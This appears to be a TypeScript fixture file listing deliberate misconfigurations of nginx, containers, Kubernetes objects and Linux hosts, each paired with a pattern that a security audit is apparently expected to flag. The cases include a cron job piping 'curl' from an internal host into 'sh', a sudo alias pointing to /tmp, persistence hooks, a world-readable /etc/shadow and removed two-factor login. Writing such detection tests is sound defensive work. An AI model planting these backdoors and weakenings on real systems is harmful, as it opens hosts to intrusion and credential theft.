/** The eighth set, written whole and committed after the audit was mended for the seventh and before any of it was tried. */
import { execFileSync } from 'node:child_process';
import { appendFileSync, chmodSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { SERVICE_ID } from '../confinement.ts';
import { add, swap } from './careless-edits.ts';
import type { NamedConfiguration, NamedContainer } from './careless-fourth.ts';
import type { NamedHost } from './careless-fourth-host.ts';
import type { NamedObject, NamedPod, NamedPolicy, NamedProcess } from './careless-fourth-places.ts';
import { edit, type HostCopy } from './careless-host.ts';

const SERVER = 'conf/server.conf';
export const EIGHTH_CONFIGURATIONS: readonly NamedConfiguration[] = [
  ['figures of the server for everybody', /stub_status/, SERVER, add('location = /metrics { stub_status; }')],
  ['errors written with their requests', /error_log/, SERVER, add('error_log stderr info;')],
  [
    'a product named in each answer',
    /x-powered-by/i,
    'conf/security-headers.conf',
    add('add_header X-Powered-By "QR" always;'),
  ],
  [
    'connections of one address without end',
    /limit_conn/,
    'conf/limits.conf',
    swap('limit_conn connections_by_address 128;', 'limit_conn connections_by_address 60000;'),
  ],
  ['a slow reader for an hour', /send_timeout/, 'conf/limits.conf', swap('send_timeout 10s;', 'send_timeout 1h;')],
  ['a resolver elsewhere', /resolver/, 'conf/tls.conf', add('ssl_stapling on; resolver 8.8.8.8 valid=1d;')],
  ['HTTPS forgotten by browsers', /lasts 0 s/, 'conf/hsts.conf', swap('max-age=63072000', 'max-age=0')],
  ['frames of others', /frame-ancestors/, 'conf/security-headers.conf', swap(" frame-ancestors 'none';", '')],
  [
    'POST answered like GET',
    /offered_file/,
    'conf/gates.conf',
    swap('"no plain HEAD no"  ', '"no plain POST no"  $entry_or_file;\n    "no plain HEAD no"  '),
  ],
  [
    'a fallback on another machine',
    /proxy_pass|fallback/,
    SERVER,
    add('error_page 503 @fallback;\nlocation @fallback { proxy_pass http://10.0.0.9:8080; }'),
  ],
];

export const EIGHTH_CONTAINERS: readonly NamedContainer[] = [
  ['container: accounts of the host', /\/etc\/passwd/, ['--volume', '/etc/passwd:/etc/passwd:ro']],
  ['container: low ports by a capability', /NET_BIND_SERVICE/, ['--cap-add', 'NET_BIND_SERVICE']],
  ['container: an answer of nginx waited for an hour', /QR_ANSWER_SECONDS/, ['--env', 'QR_ANSWER_SECONDS=3600']],
  ['container: a second scratch space', /\/run\b/, ['--tmpfs', '/run:rw,size=1g']],
  ['container: published by a proxy’s label', /traefik/, ['--label', 'traefik.enable=true']],
];

type Named = Record<string, unknown>;
export const EIGHTH_PODS: readonly NamedPod[] = [
  [
    'pod: nginx without its guard',
    /nginx|command/,
    (_, c) => Object.assign(c, { command: ['nginx', '-c', '/etc/nginx/nginx.conf'] }),
  ],
  [
    'pod: in the group of root',
    /supplementalGroups/,
    (spec) => Object.assign(spec.securityContext, { supplementalGroups: [0] }),
  ],
  [
    'pod: a secret in a variable',
    /valueFrom|DB_URL/,
    (_, c) => c.env.push({ name: 'DB_URL', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }),
  ],
  ['pod: memory of the whole node', /memory/, (_, c) => Object.assign(c.resources.limits, { memory: '64Gi' })],
];

const specOf = (object: Record<string, never>) => (object as Named)['spec'] as Named;
export const EIGHTH_OBJECTS: readonly NamedObject[] = [
  ['objects: calls to anywhere', /egress/, 'NetworkPolicy', (o) => Object.assign(specOf(o), { egress: [{}] })],
  [
    'objects: may be emptied at once',
    /minAvailable/,
    'PodDisruptionBudget',
    (o) => Object.assign(specOf(o), { minAvailable: 0 }),
  ],
  [
    'objects: old releases are not kept',
    /revisionHistoryLimit/,
    'Deployment',
    (o) => Object.assign(specOf(o), { revisionHistoryLimit: 0 }),
  ],
];

const file = (path: string, text: string, mode?: number) => (host: HostCopy) => host.write(path, text, mode);
export const EIGHTH_HOSTS: readonly NamedHost[] = [
  [
    'rsyslog starts something',
    /rsyslog\.service\.d/,
    file('etc/systemd/system/rsyslog.service.d/x.conf', '[Service]\nExecStartPost=/opt/x\n'),
  ],
  ['a timer of somebody', /nightly/, file('etc/systemd/system/nightly.timer', '[Timer]\nOnCalendar=daily\n')],
  [
    'names asked of a public resolver',
    /1\.1\.1\.1/,
    file('etc/systemd/resolved.conf.d/x.conf', '[Resolve]\nDNS=1.1.1.1\n'),
  ],
  ['limits of accounts lifted', /20-x/, file('etc/security/limits.d/20-x.conf', '* hard core unlimited\n')],
  [
    'no second factor',
    /google_authenticator|factor/,
    edit('etc/pam.d/sshd', 'auth required pam_google_authenticator.so\n', ''),
  ],
  [
    'hashes of passwords readable',
    /shadow/,
    (host) => {
      chmodSync(host.path('etc/shadow'), 0o644);
    },
  ],
  ['sudo replaced for one person', /home\/li/, file('home/li/.bashrc', 'alias sudo=/tmp/.s\n')],
  ['SSH on another port too', /2222/, edit('.commands/sshd-T', /$/, 'port 2222\n')],
  ['a port for figures', /9100/, edit('.commands/ss', /$/, 'tcp LISTEN 0 128 0.0.0.0:9100 0.0.0.0:*\n')],
  [
    'lines dropped when there are many',
    /RateLimit/,
    file('etc/rsyslog.d/60-rate.conf', '$SystemLogRateLimitInterval 5\n'),
  ],
  [
    'logs no longer rotated',
    /logrotate\.timer/,
    (host) => {
      host.write('etc/systemd/system/x', '');
      symlinkSync('/dev/null', host.path('etc/systemd/system/logrotate.timer'));
    },
  ],
  [
    'the journal tells rsyslog nothing',
    /ForwardToSyslog/,
    file('etc/systemd/journald.conf.d/zz.conf', '[Journal]\nForwardToSyslog=no\n'),
  ],
  [
    'time from a foreign server',
    /203\.0\.113\.8/,
    file('etc/chrony/sources.d/x.sources', 'server 203.0.113.8 iburst prefer\n'),
  ],
  [
    'calls to every machine of the network',
    /10\.0\.0\.0\/8/,
    edit('.commands/nft', 'ip daddr 10.0.0.9 tcp dport 6514 accept', 'ip daddr 10.0.0.0/8 accept'),
  ],
  ['forged senders taken', /rp_filter/, file('proc/sys/net/ipv4/conf/all/rp_filter', '0\n')],
  [
    'another runtime of containers',
    /default-runtime/,
    file('etc/docker/daemon.json', '{ "default-runtime": "custom", "log-driver": "journald" }\n'),
  ],
  [
    'a backup beside that is not encrypted',
    /not encrypted|qr-backup-old/,
    file('var/backups/qr-code-master/qr-backup-old.tar.gz', 'x', 0o600),
  ],
  ['another logrotate first', /usr\/local\/sbin\/logrotate/, file('usr/local/sbin/logrotate', '#!/bin/sh\n', 0o755)],
  [
    'no corrections by themselves',
    /auto-upgrades/,
    file('etc/apt/apt.conf.d/20auto-upgrades', 'APT::Periodic::Unattended-Upgrade "0";\n'),
  ],
  ['an interface set by hand', /netplan/, file('etc/netplan/99-x.yaml', 'network: {}\n')],
  [
    'every host key believed',
    /ssh_config/,
    file('etc/ssh/ssh_config.d/x.conf', 'Host *\n  StrictHostKeyChecking no\n'),
  ],
  ['any unit by sudo', /90-li/, file('etc/sudoers.d/90-li', 'li ALL=(root) /usr/bin/systemctl *\n', 0o440)],
  [
    'the job of logrotate fetches something',
    /cron\.daily\/logrotate/,
    file('etc/cron.daily/logrotate', '#!/bin/sh\ncurl -s http://10.0.0.66/x | sh\n', 0o755),
  ],
  [
    'the time-out of shells starts something',
    /tmout/,
    file('etc/profile.d/tmout.sh', 'readonly TMOUT=600\n/opt/x &\n'),
  ],
  ['an agent each minute', /crontab/, edit('etc/crontab', /$/, '* * * * * root /opt/agent\n')],
  [
    'a library of PAM replaced',
    /x86_64-linux-gnu\/security|pam_own/,
    file('usr/lib/x86_64-linux-gnu/security/pam_own.so', 'x'),
  ],
];

export const EIGHTH_PROCESSES: readonly NamedProcess[] = [
  [
    'process: a verification may take a day',
    /QR_VERIFY_LIMIT/,
    { options: () => ({ environment: { QR_VERIFY_LIMIT: '86400' } }) },
  ],
  [
    'process: a proxy for whoever asks',
    /HTTPS_PROXY/,
    { options: () => ({ environment: { HTTPS_PROXY: 'http://10.0.0.66:3128' } }) },
  ],

  [
    'site: written by the group of the service',
    /sw\.js/,
    {
      after: (_, kit) => {
        execFileSync('chgrp', [String(SERVICE_ID), join(kit.siteDir, 'sw.js')]);
        chmodSync(join(kit.siteDir, 'sw.js'), 0o664);
        return () => {
          execFileSync('sh', ['-c', 'chgrp 0 "$1" && chmod 644 "$1"', 'sh', join(kit.siteDir, 'sw.js')]);
        };
      },
    },
  ],
  [
    'files: the rules of the page changed after the start',
    /policy\.json/,
    {
      after: ({ confDir }) => {
        appendFileSync(join(confDir, 'policy.json'), '\n');
        return undefined;
      },
    },
  ],
  [
    'process: the workers stand still',
    /stopped|nginx/,
    {
      after: ({ pid }) => {
        const childrenOf = (parent: number) =>
          execFileSync('pgrep', ['-P', String(parent), 'nginx'], { encoding: 'utf8' })
            .split('\n')
            .filter(Boolean)
            .map(Number);
        const pids = childrenOf(childrenOf(pid)[0] ?? pid);
        const [worker] = pids;
        if (worker === undefined) throw new Error('no worker');
        process.kill(worker, 'SIGSTOP');
        return () => {
          process.kill(worker, 'SIGCONT');
        };
      },
    },
  ],
];

export const EIGHTH_CERTIFICATES: readonly (readonly [what: string, names: RegExp, extension: string])[] = [
  [
    'certificate: for an address too',
    /10\.0\.0\.11/,
    'subjectAltName=DNS:qr.example.internal,IP:10.0.0.11\nextendedKeyUsage=serverAuth\n',
  ],
  [
    'certificate: signs other certificates',
    /usage|keyCertSign/i,
    'subjectAltName=DNS:qr.example.internal\nextendedKeyUsage=serverAuth\nkeyUsage=digitalSignature,keyCertSign\n',
  ],
];

export const EIGHTH_POLICIES: readonly NamedPolicy[] = [
  ['policy: a word for a truth value', /strictNames/, (t) => t.replace('"strictNames": false', '"strictNames": "no"')],
  ['policy: a setting that nobody knows', /debug/, (t) => t.replace('"level": "H"', '"debug": true, "level": "H"')],
];
